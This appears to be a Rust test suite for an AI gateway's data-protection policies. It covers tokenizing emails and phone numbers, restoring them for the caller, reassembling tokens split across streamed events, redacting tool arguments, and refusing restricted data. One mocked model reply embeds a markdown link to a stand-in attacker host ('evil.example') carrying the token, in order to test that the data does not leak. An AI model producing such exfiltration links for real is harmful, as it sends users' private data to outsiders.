//! Values that a model sees as tokens, and that come back to whoever sent them.

use serde_json::{Value, json};

use crate::house::upstream::{Act, Seen, answer, chat, done, event, stream_head, streamed};
use crate::house::{Ask, House, Plan};

const MAIL: &str = "mia@example.com";

const POLICIES: &str = r#"
apiVersion: secure.platformspec.io/v1alpha1
kind: DataProtectionPolicy
metadata: {name: tokens}
spec:
  targetRefs: [{kind: Route, name: chat}]
  detectors:
    - {name: email, type: Builtin, id: email, class: Confidential}
    - {name: phone, type: Builtin, id: phone, class: Confidential}
  rules:
    - {name: hide-mail, direction: Request, parts: [User], match: {detectors: [email]}, action: Tokenize, restore: true}
    - {name: hide-phone, direction: Request, parts: [User], match: {detectors: [phone]}, action: Tokenize, scope: Tenant}
    - {name: no-mail-out, direction: Response, parts: [Assistant, ToolArguments], match: {detectors: [email]}, action: Redact}
"#;

pub fn plan() -> Plan {
    House::plan().also(POLICIES)
}

pub fn prompt(seen: &Seen) -> String {
    seen.json()["messages"][0]["content"].as_str().unwrap().to_owned()
}

/// The first token of the prompt that reached the model.
pub fn token(seen: &Seen) -> String {
    let prompt = prompt(seen);
    let from = prompt.find("tok_").unwrap_or_else(|| panic!("no token in: {prompt}"));
    prompt[from..].split([' ', '.', ',']).next().unwrap().to_owned()
}

#[tokio::test]
async fn a_model_sees_a_token_and_the_caller_the_value() {
    let house = plan().start().await;
    house.model.does(|seen| {
        let token = token(seen);
        Act::Close(chat(&format!("I wrote to {token}. [x](https://evil.example/?q={token}) Not to bob@example.com.")))
    });
    for h2 in [false, true] {
        let reply =
            house.call(&house.who.mia, Ask::chat(&format!("write to {MAIL}, call +44 20 7946 0958")).over(h2)).await;
        assert_eq!(reply.status, 200, "{}", reply.body);
        let said = reply.said();
        assert!(said.starts_with(&format!("I wrote to {MAIL}. [x](https://evil.example/?q=tok_email_")), "{said}");
        assert!(
            said.ends_with("Not to [redacted:email]."),
            "what this exchange did not tokenize is not spared: {said}"
        );
        assert_eq!(reply.header("cache-control"), "private, no-store");
    }
    let seen = house.model.seen();
    for one in &seen {
        let prompt = prompt(one);
        assert!(!prompt.contains('@') && !prompt.contains("7946") && prompt.contains("tok_phone_"), "{prompt}");
    }
    assert_eq!(token(&seen[0]), token(&seen[1]), "one token for one value of one principal");
    let first = token(&seen[0]);

    // Another exchange of the same principal, which has no such value: the token stays.
    house.model.does(move |_| Act::Close(chat(&format!("it was {first}"))));
    let reply = house.call(&house.who.mia, Ask::chat("who was it?")).await;
    assert!(reply.said().starts_with("it was tok_email_"), "{}", reply.said());
    assert_ne!(reply.header("cache-control"), "private, no-store");
    let records = house.stop().await;
    assert!(!records.text().contains(MAIL), "no record has the value");
    assert_eq!(records.requests()[0].findings(), 3);
}

#[tokio::test]
async fn attack_49_complaint_8_a_token_split_anywhere_over_events_comes_back_whole() {
    let house = plan().start().await;
    let length = "I wrote to ".len() + "tok_email_".len() + 16 + " today.".len();
    for cut in (9..length - 2).step_by(3) {
        house.model.does(move |seen| {
            let said = format!("I wrote to {} today.", token(seen));
            Act::Close(streamed(&[&said[..cut], &said[cut..]]))
        });
        let reply = house.call(&house.who.mia, Ask::streamed(&format!("write to {MAIL}")).over(cut % 2 == 0)).await;
        assert_eq!(reply.said(), format!("I wrote to {MAIL} today."), "split at {cut}");
        assert_eq!(reply.header("cache-control"), "private, no-store");
        assert!(reply.body.ends_with("data: [DONE]\n\n"), "{}", reply.body);
    }
    // One event a character.
    house.model.does(|seen| {
        let said = format!("I wrote to {}", token(seen));
        let pieces: Vec<&str> = (0..said.len()).map(|at| &said[at..=at]).collect();
        Act::Close(streamed(&pieces))
    });
    let reply = house.call(&house.who.mia, Ask::streamed(&format!("write to {MAIL}"))).await;
    assert_eq!(reply.said(), format!("I wrote to {MAIL}"));
    house.stop().await;
}

#[tokio::test]
async fn a_value_never_comes_back_into_what_a_tool_is_called_with() {
    let house = plan().start().await;
    let call = |token: &str| json!({"id": "call_1", "type": "function", "function": {"name": "mail", "arguments": json!({"to": token}).to_string()}});
    let tools = json!([{"type": "function", "function": {"name": "mail", "parameters": {"type": "object"}}}]);
    let asked = |stream: bool| {
        let text = format!("write to {MAIL}");
        let body = json!({"model": "small", "stream": stream, "tools": tools, "messages": [{"role": "user", "content": text}]});
        Ask::json("/v1/chat/completions", &body)
    };
    house.model.does(move |seen| {
        let body = json!({"id": "c", "object": "chat.completion", "created": 1, "model": "small", "choices": [{"index": 0,
            "message": {"role": "assistant", "content": null, "tool_calls": [call(&token(seen))]}, "finish_reason": "tool_calls"}]});
        Act::Close(answer(200, &[("content-type", "application/json")], body.to_string().as_bytes()))
    });
    let reply = house.call(&house.who.mia, asked(false)).await;
    let arguments = reply.json()["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"].clone();
    let arguments: Value = serde_json::from_str(arguments.as_str().unwrap()).unwrap();
    assert!(arguments["to"].as_str().unwrap().starts_with("tok_email_"), "{arguments}");
    house.model.does(|seen| {
        let arguments = json!({"to": token(seen)}).to_string();
        let mut out = stream_head();
        let call = json!([{"index": 0, "id": "call_1", "type": "function", "function": {"name": "mail", "arguments": arguments}}]);
        out.extend(event(&json!({"tool_calls": call}), &Value::Null));
        out.extend(done());
        Act::Close(out)
    });
    let reply = house.call(&house.who.mia, asked(true)).await;
    assert!(reply.body.contains("tok_email_") && !reply.body.contains("mia@"), "{}", reply.body);
    house.stop().await;
}

const ELIGIBLE: &str = r#"
apiVersion: secure.platformspec.io/v1alpha1
kind: DataProtectionPolicy
metadata: {name: vendors}
spec:
  targetRefs: [{kind: Route, name: chat}]
  detectors:
    - {name: iban, type: Builtin, id: iban, class: Restricted}
    - {name: case, type: Regex, pattern: '\bCASE-[0-9]{4}\b', class: Internal}
  rules:
    - {name: cases, direction: Request, parts: [User], match: {detectors: [case]}, action: Annotate}
  eligibility:
    - {upstreams: {matchLabels: {vendor: house}}, maxClass: Internal}
"#;

#[tokio::test]
async fn what_an_upstream_may_not_see_is_not_sent_unless_a_rule_takes_it_out() {
    let house = plan().also(ELIGIBLE).start().await;
    house.model.says(chat("noted"));
    let iban = "GB82 WEST 1234 5698 7654 32";
    let system = json!({"model": "small", "messages": [{"role": "system", "content": format!("their mail is {MAIL}")}, {"role": "user", "content": "hello"}]});
    for (case, ask, want) in [
        ("of a class that it may see", Ask::chat("about CASE-1234"), 200),
        ("tokenized in this part", Ask::chat(&format!("write to {MAIL}")), 200),
        ("redacted in this part", Ask::chat("card 4111 1111 1111 1111"), 200),
        ("of a class that it may not see", Ask::chat(&format!("pay {iban}")), 403),
        ("in a part where no rule takes it out", Ask::json("/v1/chat/completions", &system), 403),
    ] {
        for h2 in [false, true] {
            let reply = house.call(&house.who.mia, ask.clone().over(h2)).await;
            assert_eq!(reply.status, want, "{case}: {}", reply.body);
        }
    }
    assert!(house.model.seen().iter().all(|seen| !String::from_utf8_lossy(&seen.body).contains("WEST")));
    assert_eq!(house.model.count(), 6, "what was refused was not sent");
    let promised = house.promised("chat", postern_config::Direction::Request, false);
    let records = house.stop().await;
    let refused: Vec<_> = records.requests().into_iter().filter(|record| record.outcome() != "allow").collect();
    assert!(refused.len() == 4 && refused.iter().all(|record| record.rule() == "data/eligibility/vendors"));
    for record in records.requests().into_iter().filter(|record| record.outcome() == "allow") {
        assert_eq!(record.request_guards(), promised);
    }
}
